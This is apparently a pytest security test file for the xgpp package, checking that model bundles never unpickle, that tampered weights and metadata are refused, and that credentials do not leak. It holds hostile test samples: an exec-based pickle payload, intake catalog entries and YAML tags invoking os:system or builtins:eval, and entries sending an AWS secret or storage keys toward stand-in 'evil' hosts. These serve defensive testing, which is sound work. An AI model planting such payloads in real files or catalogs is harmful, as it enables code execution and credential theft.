"""Bundles and catalogs are data, not code; credentials stay secret.

* A model bundle is read as JSON and safetensors only: pickle files are never unpickled, and a
  tampered weights or metadata file is refused with a message naming the file and what differs.
* A catalog may name only xgpp's readers: hostile catalogs (``os.system`` readers or
  functions, ``!!python/object`` tags, ``builtins.eval`` drivers...) are refused before
  anything of them runs; each test checks that the payload's marker file never appears.
* ``storage_options`` credentials and gateway passwords never reach an artefact, a log record,
  stdout/stderr or an error message (a real moto S3 server on loopback).
"""

from __future__ import annotations

import json
import logging
import pickle
import re
import textwrap
from pathlib import Path

import numpy as np
import pytest
import torch
import xarray as xr

from xgpp.catalog import (
    ALLOWED_READERS,
    CatalogSecurityError,
    check_catalog,
    open_catalog,
    open_cube,
    write_catalog,
)
from xgpp.models import OUTPUTS, BundleFormatError, TorchModel, load_model
from xgpp.models._format import seal_metadata
from xgpp.models.features import FeatureConfig, FeatureSpec
from xgpp.models.mlp import MLP, MLPConfig
from xgpp.synthetic import make_world

torch.set_num_threads(1)

SECRET = "XGPP-SECRET-7f3a"
KEY_ID = "XGPPKEYID7F3A"
PASSWORD = "XGPP-GATEWAY-PW-7f3a"
REPO = Path(__file__).resolve().parents[1]


# --------------------------------------------------------------------------- helpers


class _Payload:
    """Unpickling this writes ``marker``: the proof that something unpickled it."""

    def __init__(self, marker: Path) -> None:
        self.marker = str(marker)

    def __reduce__(self):
        return (exec, ("import pathlib; "
                       f"pathlib.Path({self.marker!r}).write_text('unpickled')",))


def pickle_bomb(marker: Path) -> bytes:
    return pickle.dumps(_Payload(marker), protocol=4)


@pytest.fixture(scope="module")
def drivers() -> xr.Dataset:
    return make_world(resolution=15.0, start="2019-01-01", end="2019-03-31", n_sites=4,
                      chunks={"time": 6}).drivers.compute()


def tiny_model(drivers: xr.Dataset, *, seed: int = 0, hidden=(8, 8)) -> TorchModel:
    torch.manual_seed(seed)
    spec = FeatureSpec.fit(FeatureConfig(), drivers)
    net = MLPConfig(hidden=hidden)
    return TorchModel(MLP(spec.n_features, 1, net), spec, outputs={"gpp": OUTPUTS["gpp"]},
                      output_scale=[3.0], output_offset=[2.0], net=net)


@pytest.fixture
def bundle(tmp_path, drivers) -> tuple[Path, TorchModel]:
    model = tiny_model(drivers)
    path = tmp_path / "bundle"
    model.save(str(path))
    return path, model


def edit_json(path: Path, change) -> None:
    meta = json.loads((path / "model.json").read_text())
    change(meta)
    (path / "model.json").write_text(json.dumps(meta, indent=1))


# --------------------------------------------------------------------------- no unpickling


def test_the_pickle_bomb_is_real(tmp_path):
    """Guard against a vacuous test: unpickling the payload does write the marker."""
    marker = tmp_path / "marker"
    pickle.loads(pickle_bomb(marker))
    assert marker.read_text() == "unpickled"


def test_pickle_files_in_a_bundle_are_never_unpickled(bundle, tmp_path, drivers):
    path, model = bundle
    marker = tmp_path / "marker"
    for name in ("model.pt", "model.pth", "weights.pkl", "model.joblib", "checkpoint.ckpt"):
        (path / name).write_bytes(pickle_bomb(marker))
    torch.save({"state": _Payload(marker)}, path / "torch_saved.pt")  # a torch.save zip
    loaded = load_model(str(path))
    assert not marker.exists()
    assert loaded.sha256 == model.sha256
    x = model.features(drivers.isel(time=slice(0, 2)), return_mask=True)[0]
    np.testing.assert_array_equal(loaded.predict_numpy(x), model.predict_numpy(x))


def test_a_bundle_url_with_pickles_loads_without_unpickling(tmp_path, drivers):
    import fsspec

    marker = tmp_path / "marker"
    url = "memory://xgpp-security/bundle"
    model = tiny_model(drivers)
    model.save(url)
    fs = fsspec.filesystem("memory")
    fs.pipe(f"{url}/model.pt", pickle_bomb(marker))
    try:
        assert load_model(url).sha256 == model.sha256
        assert not marker.exists()
        fs.pipe(f"{url}/weights.safetensors", pickle_bomb(marker))
        with pytest.raises(BundleFormatError, match=r"weights\.safetensors is not a readable "
                                                    r"safetensors file.*Python pickle"):
            load_model(url)
        assert not marker.exists()
    finally:
        fs.rm("memory://xgpp-security", recursive=True)


@pytest.mark.parametrize("kind", ["pickle", "torch.save"])
def test_weights_replaced_by_a_pickle_are_refused_unread(bundle, tmp_path, kind):
    path, _ = bundle
    marker = tmp_path / "marker"
    if kind == "pickle":
        (path / "weights.safetensors").write_bytes(pickle_bomb(marker))
        what = "Python pickle, which xgpp never loads"
    else:
        torch.save({"state": _Payload(marker)}, path / "weights.safetensors")
        what = "zip archive .*a pickle, which xgpp never loads"
    with pytest.raises(BundleFormatError,
                       match=rf"{re.escape(str(path))}/weights\.safetensors is not a readable "
                             rf"safetensors file .*{what}"):
        load_model(str(path))
    assert not marker.exists()


def test_a_folder_of_pickles_only_is_refused_and_the_pickles_named(tmp_path):
    folder, marker = tmp_path / "pickled", tmp_path / "marker"
    folder.mkdir()
    (folder / "model.pt").write_bytes(pickle_bomb(marker))
    (folder / "model.pkl").write_bytes(pickle_bomb(marker))
    with pytest.raises(BundleFormatError, match=r"no model\.json \(it holds model\.pkl, model\.pt:"
                                                r" pickle-based files, which xgpp never loads"):
        load_model(str(folder))
    assert not marker.exists()


def test_no_load_path_can_unpickle():
    """Audit of the package source: no torch.load without weights_only=True, no pickle loads."""
    forbidden = re.compile(r"\b(pickle|cloudpickle|dill|joblib)\.(load|loads|Unpickler)\b|"
                           r"\bnp\.load\([^)]*allow_pickle\s*=\s*True|"
                           r"\btorch\.load\((?![^)]*weights_only\s*=\s*True)")
    hits = []
    for file in sorted((REPO / "xgpp").rglob("*.py")):
        for i, line in enumerate(file.read_text().splitlines(), 1):
            if forbidden.search(line):
                hits.append(f"{file.relative_to(REPO)}:{i}: {line.strip()}")
    assert hits == []


# --------------------------------------------------------------------------- tampered bundles


def _tensor_offsets(path: Path) -> dict[str, tuple[int, int]]:
    blob = (path / "weights.safetensors").read_bytes()
    n = int.from_bytes(blob[:8], "little")
    header = json.loads(blob[8:8 + n])
    return {k: (8 + n + v["data_offsets"][0], 8 + n + v["data_offsets"][1])
            for k, v in header.items() if k != "__metadata__"}


def test_flipped_weight_bytes_are_refused_naming_the_tensor(bundle):
    path, _ = bundle
    name, (start, _) = sorted(_tensor_offsets(path).items())[0]
    blob = bytearray((path / "weights.safetensors").read_bytes())
    blob[start] ^= 0xFF
    (path / "weights.safetensors").write_bytes(bytes(blob))
    with pytest.raises(BundleFormatError,
                       match=rf"weights in {re.escape(str(path))}/weights\.safetensors do not "
                             rf"match model\.json: tensor '{re.escape(name)}' has sha256"):
        load_model(str(path))


def test_truncated_weights_are_refused(bundle):
    path, _ = bundle
    blob = (path / "weights.safetensors").read_bytes()
    (path / "weights.safetensors").write_bytes(blob[: len(blob) // 2])
    with pytest.raises(BundleFormatError, match=r"weights\.safetensors is not a readable "
                                                r"safetensors file.*damaged"):
        load_model(str(path))


def test_missing_weights_are_refused(bundle):
    path, _ = bundle
    (path / "weights.safetensors").unlink()
    with pytest.raises(BundleFormatError, match=r"has a model\.json but no weights\.safetensors"):
        load_model(str(path))


def test_weights_of_another_model_are_refused(bundle, tmp_path, drivers):
    path, _ = bundle
    other = tmp_path / "other"
    tiny_model(drivers, seed=1).save(str(other))  # same architecture, other weights
    (path / "weights.safetensors").write_bytes((other / "weights.safetensors").read_bytes())
    with pytest.raises(BundleFormatError, match=r"do not match model\.json: tensor '.*' has "
                                                r"sha256 .*come from different models"):
        load_model(str(path))
    wider = tmp_path / "wider"
    tiny_model(drivers, hidden=(16, 8)).save(str(wider))  # another architecture
    (path / "weights.safetensors").write_bytes((wider / "weights.safetensors").read_bytes())
    with pytest.raises(BundleFormatError, match=r"tensor '.*' has shape \[16, \d+\], model\.json "
                                                r"records \[8, \d+\]"):
        load_model(str(path))


@pytest.mark.parametrize(("change", "what"), [
    (lambda m: m["net"].update(hidden=[16, 8]), r"changed \['net'\]"),
    (lambda m: m.update(kind="sif-linear"), r"changed \['kind'\]"),
    (lambda m: m.update(sha256="0" * 64), r"changed \['sha256'\]"),
    (lambda m: m["output_scale"].__setitem__(0, 30.0), r"changed \['output_scale'\]"),
    (lambda m: m["features"].update(means=None), r"changed \['features'\]"),
    (lambda m: m.update(loader="os:system", __reduce__=["os.system", "touch x"]),
     r"added \['__reduce__', 'loader'\] \(keys xgpp did not write\)"),
    (lambda m: m.pop("provenance"), r"removed \['provenance'\]"),
])
def test_edited_metadata_is_refused_naming_the_key(bundle, change, what):
    path, _ = bundle
    edit_json(path, change)
    with pytest.raises(BundleFormatError,
                       match=rf"{re.escape(str(path))}/model\.json was edited after it was "
                             rf"saved: {what}.*modified or damaged"):
        load_model(str(path))


def test_a_resealed_bundle_with_other_shapes_is_refused_by_its_weights(bundle):
    """Rewriting the integrity record too (a forger) still meets the weights' own record."""
    path, _ = bundle

    def change(meta):
        meta["net"]["hidden"] = [16, 8]
        meta.update(seal_metadata(meta))

    edit_json(path, change)
    with pytest.raises(BundleFormatError, match=r"weights in .* do not fit the architecture in "
                                                r"model\.json \(kind 'mlp'"):
        load_model(str(path))


def test_unknown_kinds_and_non_objects_are_refused(bundle):
    path, _ = bundle

    def kind(meta):
        meta.update(kind="builtins:eval")
        meta.update(seal_metadata(meta))

    edit_json(path, kind)
    with pytest.raises(BundleFormatError, match=r"unknown kind 'builtins:eval'; this xgpp knows"):
        load_model(str(path))
    (path / "model.json").write_text("[1, 2, 3]")
    with pytest.raises(BundleFormatError, match=r"model\.json holds a JSON list"):
        load_model(str(path))
    (path / "model.json").write_bytes(b"\x80\x04garbage")
    with pytest.raises(BundleFormatError, match=r"model\.json is not valid JSON"):
        load_model(str(path))


def test_an_untampered_bundle_round_trips_its_integrity_record(bundle, drivers):
    path, model = bundle
    meta = json.loads((path / "model.json").read_text())
    assert set(meta["integrity"]["keys"]) == set(meta) - {"integrity"}
    assert set(meta["tensors"]) == set(model.module.state_dict())
    loaded = load_model(str(path))
    assert "integrity" not in loaded.extra and "tensors" not in loaded.extra
    again = path.parent / "again"
    loaded.save(str(again))  # a loaded bundle saves (and verifies) again
    assert load_model(str(again)).sha256 == model.sha256


# --------------------------------------------------------------------------- hostile catalogs


def _catalog(tmp_path: Path, entries: str, *, data: str = "{}", ups: str = "{}") -> Path:
    path = tmp_path / "hostile.yaml"
    path.write_text(textwrap.dedent(f"""\
        version: 2
        aliases: {{}}
        metadata: {{}}
        user_parameters: {ups}
        data: {data}
        entries:
        """) + textwrap.indent(textwrap.dedent(entries), "  "))
    return path


def _entry(reader: str, kwargs: str) -> str:
    return textwrap.dedent(f"""\
        pwn:
          reader: {reader}
          kwargs: {kwargs}
          metadata: {{}}
          output_instance: xarray:Dataset
          user_parameters: {{}}
        """)


def test_a_hostile_catalog_runs_under_plain_intake(tmp_path):
    """Guard against a vacuous test: intake itself would run the payload of this catalog."""
    import intake

    marker = tmp_path / "marker"
    path = _catalog(tmp_path, _entry("intake.readers.convert:GenericFunc",
                                     f"{{func: '{{func(os:system)}}', command: 'touch {marker}'}}"))
    intake.from_yaml_file(str(path))["pwn"].read()
    assert marker.exists()


HOSTILE = {
    "func-os-system": (
        _entry("intake.readers.convert:GenericFunc", "{func: '{func(os:system)}', "
               "command: 'touch MARKER'}"),
        r"entry 'pwn' calls the function 'os:system', which xgpp does not run"),
    "reader-os-system": (
        _entry("os:system", "{command: 'touch MARKER'}"),
        r"entry 'pwn' names the reader 'os:system', which xgpp does not run"),
    "reader-builtins-eval": (
        _entry("builtins:eval", "{source: \"open('MARKER', 'w')\"}"),
        r"entry 'pwn' names the reader 'builtins:eval'"),
    "import-template": (
        _entry("intake.readers.readers:XArrayDatasetReader",
               "{args: ['{import(os:system)}'], engine: zarr}"),
        r"entry 'pwn'.* uses the template \{import\(os:system\)\}, which would import and call"),
    "func-in-kwargs": (
        _entry("intake.readers.readers:XArrayDatasetReader",
               "{args: [x.zarr], preprocess: '{func(builtins:eval)}', engine: zarr}"),
        r"entry 'pwn'.* uses the template \{func\(builtins:eval\)\}"),
    "pickle64": (
        _entry("intake.readers.readers:XArrayDatasetReader",
               "{args: ['{pickle64(gASVCAAAAAAAAACMBGV4ZWOULg==)}'], engine: zarr}"),
        r"entry 'pwn', kwargs.args uses the template \{pickle64\(.*\)\}, which would "
        r"unpickle data"),
    "engine": (
        _entry("intake.readers.readers:XArrayDatasetReader",
               "{args: [x.zarr], engine: 'os:system'}"),
        r"entry 'pwn' uses the xarray engine 'os:system'"),
    "output-instance": (
        _entry("intake.readers.readers:XArrayDatasetReader", "{args: [x.zarr]}").replace(
            "xarray:Dataset", "os:system"),
        r"entry 'pwn' names the output type 'os:system'"),
    "cls-key": (
        _entry("intake.readers.readers:XArrayDatasetReader",
               "{args: [{cls: 'os:system', kwargs: {command: 'touch MARKER'}}]}"),
        r"entry 'pwn'.* has a 'cls' key \('os:system'\)"),
    "env-secret": (
        _entry("intake.readers.readers:XArrayDatasetReader",
               "{args: ['s3://evil/{env(AWS_SECRET_ACCESS_KEY)}'], engine: zarr}"),
        r"entry 'pwn', kwargs.args reads the environment variable 'AWS_SECRET_ACCESS_KEY'"),
}


@pytest.mark.parametrize("case", sorted(HOSTILE))
def test_hostile_catalog_entries_are_refused_before_anything_runs(tmp_path, monkeypatch, case):
    monkeypatch.chdir(tmp_path)  # the payloads write ./MARKER
    entries, message = HOSTILE[case]
    path = _catalog(tmp_path, entries)
    with pytest.raises(CatalogSecurityError,
                       match=rf"catalog {re.escape(str(path))}, {message}") as info:
        open_catalog(str(path))
    assert not (tmp_path / "MARKER").exists()
    if "reader" in case:
        for allowed in ALLOWED_READERS:  # the message lists what is allowed
            assert allowed in str(info.value)
    with pytest.raises(CatalogSecurityError):  # open_cube reads the catalog the same way
        open_cube("pwn", catalog=str(path))
    assert not (tmp_path / "MARKER").exists()


def test_a_catalog_object_from_plain_intake_is_checked_by_open_cube(tmp_path, monkeypatch):
    import intake

    monkeypatch.chdir(tmp_path)
    path = _catalog(tmp_path, HOSTILE["func-os-system"][0])
    cat = intake.from_yaml_file(str(path))  # bypasses open_catalog
    with pytest.raises(CatalogSecurityError, match=r"calls the function 'os:system'"):
        open_cube("pwn", catalog=cat)
    assert not (tmp_path / "MARKER").exists()


@pytest.mark.parametrize("tag", ["!!python/object/apply:os.system ['touch MARKER']",
                                 "!!python/object/new:os.system ['touch MARKER']",
                                 "!!python/name:builtins.eval ''"])
def test_yaml_object_tags_are_refused(tmp_path, monkeypatch, tag):
    monkeypatch.chdir(tmp_path)
    path = _catalog(tmp_path, _entry("intake.readers.readers:XArrayDatasetReader",
                                     f"{{args: [{tag}], engine: zarr}}"))
    with pytest.raises(CatalogSecurityError,
                       match=rf"catalog {re.escape(str(path))} uses the YAML tag "
                             r"'tag:yaml\.org,2002:python/.*' \(line \d+\), which would "
                             r"construct a Python object"):
        open_catalog(str(path))
    assert not (tmp_path / "MARKER").exists()


def test_hostile_data_and_parameters_are_refused(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    reader = _entry("intake.readers.readers:XArrayDatasetReader",
                    "{args: ['{data(tok)}'], engine: zarr}")
    path = _catalog(tmp_path, reader,
                    data="{tok: {datatype: 'os:system', kwargs: {command: touch MARKER}, "
                         "metadata: {}, user_parameters: {}}}")
    with pytest.raises(CatalogSecurityError, match=r"data 'tok' names the data type 'os:system'"):
        open_catalog(str(path))
    path = _catalog(tmp_path, reader,
                    data="{tok: {datatype: 'intake.readers.datatypes:Zarr', kwargs: {url: x, "
                         "storage_options: {key: '{STORAGE_OPTIONS[key]}', endpoint_url: "
                         "'http://evil.example'}}, metadata: {}, user_parameters: {}}}")
    with pytest.raises(CatalogSecurityError, match=r"uses \{STORAGE_OPTIONS\[key\]\}: the "
                                                   r"storage options .* \(credentials\)"):
        open_catalog(str(path))
    for ups, message in [
        ("{P: {default: 'import(os:system)', description: ''}}",
         r"user parameter 'P'\.default uses the template \{import\(os:system\)\}"),
        ("{P: {default: x, dtype: eval}}",
         r"user parameter 'P' has dtype 'eval': intake would call builtins\.eval"),
        ("{P: {default: x, cls: 'os:system'}}",
         r"user parameter 'P' names the class 'os:system'"),
    ]:
        path = _catalog(tmp_path, reader.replace("'{data(tok)}'", "x.zarr"), ups=ups)
        with pytest.raises(CatalogSecurityError, match=message):
            open_catalog(str(path), P="print('x')")
    assert not (tmp_path / "MARKER").exists()


def test_intake_1_drivers_are_refused(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    path = tmp_path / "v1.yaml"
    path.write_text("sources:\n  pwn:\n    driver: builtins.eval\n"
                    "    args: {source: \"open('MARKER', 'w')\"}\n")
    with pytest.raises(CatalogSecurityError, match=rf"catalog {re.escape(str(path))} is an intake "
                                                   r"1 catalog.*entry 'pwn' driver "
                                                   r"'builtins\.eval'"):
        open_catalog(str(path))
    assert not (tmp_path / "MARKER").exists()


def test_xgpp_catalogs_pass_the_check(tmp_path):
    from xgpp.catalog import PACKAGED_CATALOGS, build_catalog, catalog_entry_for_source

    for name in PACKAGED_CATALOGS:
        open_catalog(name)  # packaged catalogs open (the check runs on each)
    flux = catalog_entry_for_source("fluxnet", "{CATALOG_DIR}/fluxnet")
    cat = build_catalog(names=["drivers"], sources={"flux": flux})
    check_catalog(cat.to_dict(), "built")
    url = write_catalog(str(tmp_path), names=["drivers"], sources={"flux": flux})
    assert sorted(open_catalog(url).entries) == ["drivers", "flux"]


# --------------------------------------------------------------------------- secrets


def _grep(blob: bytes | str, where: str, found: list[str]) -> None:
    text = blob.decode("utf-8", "replace") if isinstance(blob, bytes) else blob
    for secret in (SECRET, KEY_ID):
        if secret in text:
            found.append(f"{secret} in {where}")


def test_credentials_never_reach_artefacts_logs_or_errors(s3_bucket, tmp_path, caplog, capsys,
                                                          monkeypatch):
    """Train, predict and write_catalog on S3 with a recognisable key: it appears nowhere."""
    import warnings

    import s3fs

    from xgpp.predict import write_prediction
    from xgpp.samples import SampleExclusionWarning
    from xgpp.synthetic import write_world
    from xgpp.train import PhaseConfig, TrainConfig, train_from_catalog

    bucket, options = s3_bucket
    secret_options = {"endpoint_url": options["endpoint_url"], "key": KEY_ID, "secret": SECRET}
    monkeypatch.setenv("XGPP_CACHE_DIR", str(tmp_path / "cache"))
    caplog.set_level(logging.DEBUG)
    root = f"{bucket}/world"
    write_world(root, resolution=15.0, start="2019-01-01", end="2019-06-30", seed=3, n_sites=8,
                storage_options=secret_options, progress=False)
    config = TrainConfig(net=MLPConfig(hidden=(8,)), ec=PhaseConfig(max_epochs=1, batch_size=64))
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", SampleExclusionWarning)
        model = train_from_catalog(root, method="ec-only", out=f"{root}/model",
                                   config=config.to_dict(), storage_options=secret_options,
                                   progress=False, device="cpu")
    model.save(str(tmp_path / "local-model"))
    loaded = load_model(f"{root}/model", storage_options=secret_options)
    cat = open_catalog(root, storage_options=secret_options)
    drivers = open_cube("drivers", catalog=cat)
    write_prediction(drivers, loaded, f"{root}/gpp.zarr", storage_options=secret_options,
                     progress=False)
    write_catalog(root, names=["drivers", "truth", "sites"], storage_options=secret_options,
                  extra={"note": "rewritten"})
    pred = open_cube(f"{root}/gpp.zarr", **secret_options)
    assert pred.attrs["xgpp_complete"] is True

    found: list[str] = []
    fs = s3fs.S3FileSystem(**options, skip_instance_cache=True)
    objects = fs.find(bucket)
    assert any(o.endswith("model/model.json") for o in objects)
    assert any(o.endswith("gpp.zarr/zarr.json") for o in objects)
    assert any(o.endswith("world/catalog.yaml") for o in objects)
    for obj in objects:
        _grep(fs.cat_file(obj), f"s3://{obj}", found)
    for file in tmp_path.rglob("*"):
        if file.is_file():
            _grep(file.read_bytes(), str(file), found)
    _grep(json.dumps(model.provenance, default=str), "model.provenance", found)
    _grep(json.dumps(loaded.metadata(), default=str), "loaded.metadata()", found)
    _grep(json.dumps(dict(pred.attrs), default=str), "prediction attrs", found)
    for name, var in pred.variables.items():
        _grep(json.dumps(dict(var.attrs), default=str), f"prediction {name} attrs", found)
    for shown in (repr(model), repr(cat), str(cat), repr(cat["drivers"]),
                  repr(cat.get_entity("drivers")), repr(cat.user_parameters)):
        _grep(shown, "a repr", found)
    # re-saving an opened catalog must not write the credentials it was opened with
    try:
        cat.to_yaml_file(str(tmp_path / "resaved.yaml"))
    except Exception as err:  # noqa: BLE001 - refusing is fine; leaking is not
        _grep(f"{type(err).__name__}: {err}", "cat.to_yaml_file error", found)
    if (tmp_path / "resaved.yaml").exists():
        _grep((tmp_path / "resaved.yaml").read_bytes(), "resaved catalog", found)

    # error paths: the failing call's whole exception chain
    failures = [
        lambda: open_cube("s3://xgpp-no-such-bucket/c.zarr", **secret_options),
        lambda: open_catalog("s3://xgpp-no-such-bucket/w", storage_options=secret_options),
        lambda: load_model("s3://xgpp-no-such-bucket/m", storage_options=secret_options),
        lambda: open_cube("nothing", catalog=cat),
    ]
    for fail in failures:
        with pytest.raises(Exception) as info:  # noqa: PT011 - any refusal; its text is checked
            fail()
        err: BaseException | None = info.value
        while err is not None:
            _grep(f"{type(err).__name__}: {err} {err.args!r}", "an error message", found)
            err = err.__cause__ or err.__context__
        _grep(str(info.getrepr(showlocals=False)), "a traceback", found)

    for record in caplog.records:
        message = record.getMessage()
        if record.name.startswith(("botocore.", "aiobotocore.")):
            # every signed request names the key *id* in its Authorization header, which
            # botocore logs at DEBUG; the secret itself must not appear there either
            message = message.replace(KEY_ID, "<key id in a signed request>")
        _grep(message, f"log record {record.name}", found)
    out, err_text = capsys.readouterr()
    _grep(out, "stdout", found)
    _grep(err_text, "stderr", found)
    assert not found, "\n".join(sorted(set(found)))


def test_storage_options_are_named_not_valued_in_a_catalog_written_with_them(tmp_path):
    url = write_catalog(str(tmp_path), names=["drivers"],
                        storage_options={"auto_mkdir": True})
    text = Path(url).read_text()
    assert "auto_mkdir" not in text and "{STORAGE_OPTIONS}" in text


def test_gateway_password_is_redacted_in_reprs():
    from xgpp.cluster import GatewayBackend

    backend = GatewayBackend(address="http://127.0.0.1:9", auth="basic", username="me",
                             password=PASSWORD)
    shown = repr(backend)
    assert PASSWORD not in shown and "password='***'" in shown and "username='me'" in shown
    assert "password=None" in repr(GatewayBackend(address="http://127.0.0.1:9"))


def test_a_refused_gateway_login_does_not_show_the_password(gateway_server, caplog, capsys):
    import xgpp

    address, options = gateway_server
    caplog.set_level(logging.DEBUG)
    wrong = {**options, "password": PASSWORD}
    with pytest.raises(PermissionError, match=r"refused authentication") as info:
        with xgpp.cluster("gateway", **wrong, n_workers=1):
            pass
    texts = [str(info.getrepr(showlocals=False))]
    err: BaseException | None = info.value
    while err is not None:
        texts.append(f"{err} {err.args!r}")
        err = err.__cause__ or err.__context__
    texts += [r.getMessage() for r in caplog.records]
    texts += list(capsys.readouterr())
    assert not [t for t in texts if PASSWORD in t]
